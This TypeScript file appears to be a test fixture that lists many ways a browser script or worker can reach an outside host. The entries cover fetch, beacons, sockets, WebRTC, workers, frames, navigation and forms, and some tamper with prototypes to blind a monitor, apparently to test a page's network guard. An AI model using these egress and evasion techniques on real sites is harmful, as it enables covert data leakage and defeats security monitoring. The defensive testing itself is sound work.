/**
 * Ways by which a script could reach another host. Each is an expression of a function that takes the host, one of its
 * own for each way, so that the browser's network log tells which one got out.
 */
export interface Leak {
  readonly name: string;
  /** Run as it stands: the policy forbids the page to evaluate text, and the test's own way in is the debugger. */
  readonly attempt: string;
  /**
   * Why the ledger says nothing of it, where that is so: "defused" where what is left of the attempt leads nowhere,
   * "unseen" where it is stopped by the browser in a place that the page is not told of.
   */
  readonly silence?: "defused" | "unseen";
}

const leak = (name: string, attempt: string, silence?: Leak["silence"]): Leak => ({
  name,
  attempt,
  ...(silence === undefined ? {} : { silence }),
});

/** Runs in the page before the attempt, to blind those who look at it; each is put back, if it could be changed. */
const blinded = (change: string, attempt: string) =>
  `async (host) => { const undo = []; const set = (o, k, d) => { const old = Object.getOwnPropertyDescriptor(o, k); try { Object.defineProperty(o, k, { configurable: true, ...d }); undo.push(() => Object.defineProperty(o, k, old)); } catch {} }; try { ${change}; return await (${attempt})(host); } finally { undo.forEach((f) => f()); } }`;

/** Ways to a realm in which no guard stands; each gives its window. */
const realms: Readonly<Record<string, string>> = {
  "a blank frame": `(() => { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow; })()`,
  "a frame of another name space": `(() => { const f = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe"); document.body.append(f); return window[0]; })()`,
  "a frame with this site's page": `(() => { const f = document.createElement("iframe"); f.src = "/about/"; document.body.append(f); return window[0]; })()`,
  "a frame with its own source": `(() => { const f = document.createElement("iframe"); f.srcdoc = "<p>"; document.body.append(f); return window[0]; })()`,
  "a frame out of markup": `(() => { document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"); return window[0]; })()`,
  "a frame out of inner markup": `(() => { const d = document.createElement("div"); document.body.append(d); d.innerHTML = "<p><iframe>"; return window[0]; })()`,
  "a frame out of unsafe markup": `(() => { const d = document.createElement("div"); document.body.append(d); d.setHTMLUnsafe("<iframe>"); return window[0]; })()`,
  "a frame out of a template": `(() => { const t = document.createElement("template"); t.innerHTML = "<iframe></iframe>"; document.body.append(t.content.cloneNode(true)); return window[0]; })()`,
  "a frame out of a range": `(() => { document.body.append(document.createRange().createContextualFragment("<iframe>")); return window[0]; })()`,
  "a frame out of parsed markup": `(() => { const d = new DOMParser().parseFromString("<iframe></iframe>", "text/html"); document.body.append(document.adoptNode(d.body.firstChild)); return window[0]; })()`,
  "a frame out of an entity": `(() => { const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY a "&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\'/>">]><x>&a;</x>', "text/xml"); document.body.append(document.adoptNode(d.documentElement.firstChild)); return window[0]; })()`,
  "a frame as a document": `(() => { const d = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe"); document.body.append(document.adoptNode(d.documentElement)); return window[0]; })()`,
  "a frame out of markup with a prefix": `(() => { const d = document.implementation.createDocument(null, "x"); d.documentElement.innerHTML = '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>'; document.body.append(document.adoptNode(d.documentElement.firstChild)); return window[0]; })()`,
  "a frame past patterns that never match": `(() => { const exec = RegExp.prototype.exec, test = RegExp.prototype.test; try { RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; } catch {} try { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow; } finally { try { RegExp.prototype.exec = exec; RegExp.prototype.test = test; } catch {} } })()`,
  "a window in the picture": `await documentPictureInPicture.requestWindow()`,
  "a frame written in pieces": `(() => { document.write("<ifr"); document.write("ame></iframe>"); return window[0]; })()`,
  "a frame of a class": `(() => { class F extends HTMLIFrameElement {} customElements.define("x-frame", F, { extends: "iframe" }); document.body.append(new F()); return window[0]; })()`,
  "a frame in the shadow": `(() => { const d = document.createElement("div"); document.body.append(d); const f = document.createElement("iframe"); d.attachShadow({ mode: "closed" }).append(f); return f.contentWindow; })()`,
  "an object": `(() => { const o = document.createElement("object"); o.data = "about:blank"; document.body.append(o); return o.contentWindow; })()`,
  "a window": `window.open("")`,
  "a window by the old document": `document.open("about:blank", "x", "popup")`,
};

/** What such a realm would be used for. */
const uses: Readonly<Record<string, string>> = {
  fetch: "w.fetch(`https://${host}/`).catch(() => 0)",
  sendBeacon: "w.navigator.sendBeacon(`https://${host}/`, 'text')",
  WebRTC:
    "(async () => { const p = new w.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:3478` }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); })()",
};

const peer = (constructor: string) =>
  `async (host) => { const p = new (${constructor})({ iceServers: [{ urls: \`stun:\${host}:3478\` }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); }`;

const link = (rel: string, make: string) => leak(`${rel}, ${make}`, linkMakers[make]!.replaceAll("REL", rel));

const linkMakers: Readonly<Record<string, string>> = {
  "by property": `(host) => { const l = document.createElement("link"); l.rel = "REL"; l.href = "https://" + host; document.head.append(l); }`,
  "by attribute": `(host) => { const l = document.createElement("link"); document.head.append(l); l.setAttribute("rel", "REL"); l.setAttribute("HREF", "https://" + host); }`,
  "by attribute node": `(host) => { const l = document.createElement("link"); l.rel = "REL"; document.head.append(l); const a = document.createAttribute("href"); a.value = "https://" + host; l.setAttributeNode(a); }`,
  "by attribute node, filled later": `(host) => { const l = document.createElement("link"); l.rel = "REL"; document.head.append(l); const a = document.createAttribute("href"); l.attributes.setNamedItem(a); a.textContent = "https://" + host; }`,
  "by markup": `(host) => { document.head.insertAdjacentHTML("beforeend", '<link rel="REL" href="https://' + host + '">'); }`,
};

/** In the page, which stays where it is. */
export const pageLeaks: readonly Leak[] = [
  leak("fetch", "(host) => fetch(`https://${host}/`)"),
  leak("fetch of a request", "(host) => fetch(new Request(`https://${host}/`))"),
  leak(
    "fetch of an address that changes",
    `(host) => { let n = 0; return fetch({ toString: () => (n++ ? "https://" + host : "/") }).then(() => 0); }`,
    "defused",
  ),
  leak(
    "fetch past addresses that lie",
    blinded(
      'set(URL.prototype, "origin", { get: () => location.origin }); set(globalThis, "URL", { value: class { static canParse() { return false; } } })',
      "(host) => fetch(`https://${host}/`)",
    ),
  ),
  leak(
    "fetch past a request that lies",
    blinded(
      'set(Request.prototype, "url", { get: () => location.href }); set(Request, Symbol.hasInstance, { value: () => false })',
      "(host) => fetch(new Request(`https://${host}/`))",
    ),
  ),
  leak(
    "fetch of a frame with a made-up name",
    '(host) => { let n = 0; const f = document.createElement({ toString: () => (n++ ? "iframe" : "p") }); document.body.append(f); return window[0]?.fetch(`https://${host}/`); }',
    "defused",
  ),
  leak(
    "a worker out of a cache",
    '(host) => caches.open("leak").then(async (cache) => { await cache.put("/_next/static/leak.js", new Response(`fetch("https://${host}/")`, { headers: { "Content-Type": "text/javascript" } })); new Worker("/_next/static/leak.js"); })',
    "unseen",
  ),
  leak(
    "fetch of a request that lies",
    `(host) => { class R extends Request { get url() { return location.href; } } return fetch(new R("https://" + host)); }`,
  ),
  leak("fetch that outlives the page", "(host) => fetch(`https://${host}/`, { keepalive: true, mode: 'no-cors' })"),
  leak("XMLHttpRequest", "(host) => { const x = new XMLHttpRequest(); x.open('GET', `https://${host}/`); x.send(); }"),
  leak(
    "XMLHttpRequest by its prototype",
    "(host) => { const x = Reflect.construct(XMLHttpRequest.prototype.constructor, []); x.open('GET', `https://${host}/`); x.send(); }",
  ),
  leak("sendBeacon", "(host) => navigator.sendBeacon(`https://${host}/`, 'text')"),
  leak(
    "sendBeacon by its prototype",
    "(host) => Navigator.prototype.sendBeacon.call(navigator, `https://${host}/`, 'text')",
  ),
  leak("fetchLater", "(host) => { fetchLater(`https://${host}/`, { activateAfter: 0 }); }"),
  leak("EventSource", "(host) => { new EventSource(`https://${host}/`); }"),
  leak("WebSocket", "(host) => { new WebSocket(`wss://${host}/`); }"),
  leak("WebSocket by its prototype", "(host) => { new WebSocket.prototype.constructor(`wss://${host}/`); }"),
  leak("WebSocketStream", "(host) => new WebSocketStream(`wss://${host}/`).opened"),
  leak("WebTransport", "(host) => { new WebTransport(`https://${host}/`); }"),
  leak("WebRTC", peer("RTCPeerConnection")),
  leak("WebRTC by its old name", peer("webkitRTCPeerConnection")),
  leak("WebRTC by its prototype", peer("RTCPeerConnection.prototype.constructor")),
  leak("a cache that adds", "async (host) => (await caches.open('leak')).add(`https://${host}/`)"),
  leak("a cache that adds several", "async (host) => (await caches.open('leak')).addAll([`https://${host}/`])"),
  leak("a picture", "(host) => { new Image().src = `https://${host}/`; }"),
  leak(
    "a style's picture",
    "(host) => { const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(https://${host}/) }`); document.adoptedStyleSheets = [s]; }",
  ),
  leak("a font", "(host) => new FontFace('leak', `url(https://${host}/)`).load()"),
  leak("a sound", "(host) => { new Audio(`https://${host}/`).play().catch(() => 0); }"),
  leak(
    "a picture in a drawing",
    "(host) => { const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', `https://${host}/`); s.append(i); document.body.append(s); }",
  ),
  leak(
    "an embedded thing",
    "(host) => { const e = document.createElement('embed'); e.src = `https://${host}/`; document.body.append(e); }",
  ),
  leak(
    "a script",
    "(host) => { const s = document.createElement('script'); s.src = `https://${host}/`; document.head.append(s); }",
  ),
  leak(
    "a module",
    "(host) => { const s = document.createElement('script'); s.type = 'module'; s.src = `https://${host}/`; document.head.append(s); }",
  ),
  leak("import", "(host) => import(`https://${host}/`)"),
  leak("a worker", "(host) => { new Worker(`https://${host}/`); }"),
  leak(
    "a worker out of text",
    "(host) => { new Worker(URL.createObjectURL(new Blob([`fetch('https://${host}/')`], { type: 'text/javascript' }))); }",
  ),
  leak(
    "a shared worker out of text",
    "(host) => { new SharedWorker(`data:text/javascript,fetch('https://${host}/')`); }",
  ),
  leak(
    "speculation rules",
    "(host) => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`https://${host}/`] }] }); document.head.append(s); }",
  ),
  leak(
    "a link's ping",
    "(host) => { const a = document.createElement('a'); a.href = '#leak'; a.ping = `https://${host}/`; document.body.append(a); a.click(); }",
  ),
  leak("a notification's icon", "(host) => { new Notification('leak', { icon: `https://${host}/` }); }"),
  leak(
    "a player's picture",
    "(host) => { navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: `https://${host}/` }] }); }",
  ),
  leak("a remote voice", "(host) => { speechSynthesis.speak(new SpeechSynthesisUtterance(host)); }"),
  leak(
    "a key of another site",
    "(host) => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: host } })",
  ),
  leak(
    "a fetch in the background",
    "async (host) => BackgroundFetchManager.prototype.fetch.call((await navigator.serviceWorker.getRegistration())?.backgroundFetch, 'leak', `https://${host}/`)",
  ),
  ...["preconnect", "dns-prefetch"].flatMap((rel) => Object.keys(linkMakers).map((make) => link(rel, make))),
  ...["prefetch", "preload", "modulepreload", "manifest", "icon", "stylesheet"].map((rel) => link(rel, "by property")),
  ...Object.entries(realms).flatMap(([realm, makeWindow]) =>
    (realm === "a blank frame" ? Object.keys(uses) : ["fetch"]).map((use) =>
      leak(`${use} of ${realm}`, `async (host) => { const w = ${makeWindow}; await ${uses[use]!}; }`),
    ),
  ),
];

/** In the page, which each of them would leave, or open another one from. */
export const leavingLeaks: readonly Leak[] = [
  leak("location.href", "(host) => { location.href = `https://${host}/`; }"),
  leak(
    "location.href past events that go on",
    blinded(
      "set(Event.prototype, 'preventDefault', { value() {} }); set(Event.prototype, 'cancelable', { get: () => false })",
      "(host) => { location.href = `https://${host}/`; }",
    ),
  ),
  leak(
    "location.href past events that lie",
    blinded(
      "set(NavigationDestination.prototype, 'url', { get: () => location.href }); set(NavigateEvent.prototype, 'destination', { get: () => location })",
      "(host) => { location.href = `https://${host}/`; }",
    ),
  ),
  leak(
    "a link past lists that are empty",
    blinded(
      "set(Array.prototype, Symbol.iterator, { value: function* () {} }); set(Array.prototype, 'find', { value: () => undefined })",
      "(host) => { const a = document.createElement('a'); a.href = 'https://' + host + '/'; a.target = '_blank'; document.body.append(a); a.click(); }",
    ),
  ),
  leak("location.assign", "(host) => { location.assign(`https://${host}/`); }"),
  leak("location.replace", "(host) => { location.replace(`https://${host}/`); }"),
  leak("navigation.navigate", "(host) => { navigation.navigate(`https://${host}/`); }"),
  leak(
    "a link",
    "(host) => { const a = document.createElement('a'); a.href = `https://${host}/`; document.body.append(a); a.click(); }",
  ),
  leak(
    "a link in no document",
    "(host) => { const a = document.createElement('a'); a.href = `https://${host}/`; a.click(); }",
  ),
  leak(
    "a link to a new window",
    "(host) => { const a = document.createElement('a'); a.href = `https://${host}/`; a.target = '_blank'; document.body.append(a); a.click(); }",
  ),
  leak(
    "a link in no document to a new window",
    "(host) => { const a = document.createElement('a'); a.href = `https://${host}/`; a.target = '_blank'; a.dispatchEvent(new MouseEvent('click')); }",
  ),
  leak(
    "a link in a drawing",
    "(host) => { const a = document.createElementNS('http://www.w3.org/2000/svg', 'a'); a.setAttribute('href', `https://${host}/`); a.setAttribute('target', '_blank'); document.body.append(a); a.dispatchEvent(new MouseEvent('click')); }",
  ),
  leak("window.open", "(host) => { window.open(`https://${host}/`); }"),
  leak("window.open without an opener", "(host) => { window.open(`https://${host}/`, '_blank', 'noopener'); }"),
  leak(
    "a form",
    "(host) => { const f = document.createElement('form'); f.action = `https://${host}/`; document.body.append(f); f.submit(); }",
  ),
  leak(
    "a form's button",
    "(host) => { const f = document.createElement('form'); const b = document.createElement('button'); b.formAction = `https://${host}/`; f.append(b); document.body.append(f); f.requestSubmit(b); }",
  ),
  leak(
    "a form that looks like a link",
    "(host) => { const f = document.createElement('form'); f.setAttribute('href', '/'); f.action = `https://${host}/`; f.target = '_blank'; document.body.append(f); f.submit(); }",
  ),
  leak(
    "a link in a closed shadow",
    "(host) => { const d = document.createElement('div'); document.body.append(d); const a = document.createElement('a'); a.href = `https://${host}/`; a.target = '_blank'; const s = document.createElement('span'); a.append(s); d.attachShadow({ mode: 'closed' }).append(a); s.click(); }",
  ),
  leak(
    "a form to a new window",
    "(host) => { const f = document.createElement('form'); f.action = `https://${host}/`; f.target = '_blank'; document.body.append(f); f.submit(); }",
  ),
  leak(
    "a page that refreshes itself",
    "(host) => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=https://${host}/`; document.head.append(m); }",
  ),
  leak(
    "a page that refreshes itself, by markup",
    "(host) => { document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=https://${host}/'>`); }",
  ),
  leak(
    "a download",
    "(host) => { const a = document.createElement('a'); a.href = `https://${host}/`; a.download = 'x'; document.body.append(a); a.click(); }",
  ),
];

/** In a worker. */
export const workerLeaks: readonly Leak[] = [
  leak("fetch", "(host) => fetch(`https://${host}/`)"),
  leak(
    "fetch by its prototype",
    "(host) => { for (let o = globalThis; o; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, 'fetch'); if (d) return d.value.call(globalThis, `https://${host}/`); } }",
  ),
  leak(
    "fetch that was deleted first",
    "(host) => { try { delete globalThis.fetch; } catch {} return fetch(`https://${host}/`); }",
  ),
  leak("XMLHttpRequest", "(host) => { const x = new XMLHttpRequest(); x.open('GET', `https://${host}/`); x.send(); }"),
  leak("EventSource", "(host) => { new EventSource(`https://${host}/`); }"),
  leak("WebSocket", "(host) => { new WebSocket.prototype.constructor(`wss://${host}/`); }"),
  leak("WebTransport", "(host) => { new WebTransport(`https://${host}/`); }"),
  leak("a cache that adds", "async (host) => (await caches.open('leak')).add(`https://${host}/`)"),
  leak("import", "(host) => import(`https://${host}/`)"),
  leak("a font", "(host) => new FontFace('leak', `url(https://${host}/)`).load()"),
  leak(
    "a worker of its own",
    "(host) => { new Worker(URL.createObjectURL(new Blob([`fetch('https://${host}/')`], { type: 'text/javascript' }))); }",
  ),
];
